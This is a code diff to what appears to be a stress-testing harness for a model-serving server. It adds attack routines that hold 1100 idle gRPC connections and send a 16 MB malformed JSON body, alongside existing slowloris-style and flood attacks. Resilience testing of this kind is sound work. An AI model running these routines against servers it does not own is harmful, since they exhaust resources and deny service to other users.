@@ -51,6 +51,16 @@ def connections(target: Target, end: float) -> None:
     _keep(target, end, 1100, lambda number: b"")
 
 
+def grpc_connections(target: Target, end: float) -> None:
+    """Open 1100 connections to the gRPC port that send nothing."""
+    _keep(target, end, 1100, lambda number: b"", target.grpc)
+
+
+def invalid_json(target: Target, end: float) -> None:
+    """Send 16 MB of numbers that end in an error."""
+    _repeat(target, end, request(b'{"instances": [' + b"1.53125678901234567," * 800_000 + b"x]}"))
+
+
 def churn(target: Target, end: float) -> None:
     """Open and close 10 000 connections, again and again."""
     while time.monotonic() < end:
@@ -144,6 +154,7 @@ ATTACKS: dict[str, Callable[[Target, float], None]] = {
     attack.__name__: attack
     for attack in (
         connections,
+        grpc_connections,
         churn,
         slow_headers,
         slow_bodies,
@@ -153,6 +164,7 @@ ATTACKS: dict[str, Callable[[Target, float], None]] = {
         large_reply,
         numbers,
         many_values,
+        invalid_json,
         brackets,
         slow_tls,
         flood,
@@ -167,7 +179,7 @@ def _fill(count: int) -> bytes:
     return request(json.dumps({"signature_name": "fill", "inputs": count}).encode())
 
 
-def _keep(target: Target, end: float, count: int, sent: Callable[[int], bytes]) -> None:
+def _keep(target: Target, end: float, count: int, sent: Callable[[int], bytes], port: int = 0) -> None:
     """Open connections, send something on each, and replace those that the server closes."""
     kept: list[socket.socket] = []
     while time.monotonic() < end:
@@ -175,7 +187,7 @@ def _keep(target: Target, end: float, count: int, sent: Callable[[int], bytes]) 
             if len(kept) >= count:
                 time.sleep(0.05)
                 kept.pop(0).close()
-            connection = target.connect()
+            connection = target.connect(port)
             connection.settimeout(0.5)
             kept.append(connection)
             connection.sendall(sent(len(kept)))
